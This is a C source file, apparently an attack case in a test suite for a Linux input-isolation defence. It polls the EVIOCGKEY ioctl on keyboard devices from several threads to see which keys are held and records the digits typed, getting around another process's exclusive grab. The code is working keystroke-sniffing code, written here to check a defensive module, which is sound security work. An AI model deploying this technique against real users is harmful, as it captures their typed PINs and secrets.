// SPDX-License-Identifier: Apache-2.0
/*
 * Asks for the state of all keys (EVIOCGKEY) as fast as it can, in several threads: a
 * grab keeps events from others, not this state.
 *
 * attack: evdev_poll_key
 * class: input
 * when: before
 * judge: keys
 * quick: yes
 * defence: module
 * why: the input core tells what is down whoever has the grab; in a session the
 *	module clears each bit in the critical section that set it
 */
#include <linux/input.h>
#include <pthread.h>
#include <string.h>
#include <sys/ioctl.h>

#include "digits.h"
#include "evdev.h"
#include "report.h"

#define THREADS 3

struct poller {
	pthread_t thread;
	int fds[EVDEV_MAX];
	size_t count;
	unsigned long polls;
	struct digits digits;
};

static void look(struct poller *p, int fd, unsigned char *last)
{
	unsigned char now[KEY_CNT / 8] = { 0 };
	unsigned int code;

	if (ioctl(fd, EVIOCGKEY(sizeof(now)), now) < 0 || !memcmp(now, last, sizeof(now)))
		return;
	for (code = 0; code < KEY_CNT; code++)
		if (now[code / 8] & ~last[code / 8] & 1u << code % 8)
			digits_add(&p->digits, evdev_digit(code));
	memcpy(last, now, sizeof(now));
}

static void *poll_keys(void *arg)
{
	unsigned char last[EVDEV_MAX][KEY_CNT / 8] = { 0 };
	struct poller *p = arg;
	size_t i;

	for (; !attack_stopping(); p->polls++)
		for (i = 0; i < p->count; i++)
			look(p, p->fds[i], last[i]);
	return NULL;
}

int main(void)
{
	static struct poller pollers[THREADS];
	int i;

	attack_init();
	for (i = 0; i < THREADS; i++) {
		pollers[i].count = evdev_open_keyboards(pollers[i].fds);
		if (!pollers[i].count || pthread_create(&pollers[i].thread, NULL, poll_keys, &pollers[i]))
			attack_failed("no keyboard can be opened, or no thread started");
	}
	attack_ready();
	for (i = 0; i < THREADS; i++) {
		pthread_join(pollers[i].thread, NULL);
		attack_note("thread %d asked %lu times", i, pollers[i].polls);
		attack_digits(pollers[i].digits.text);
	}
	attack_failed("these are all the digits it saw");
}
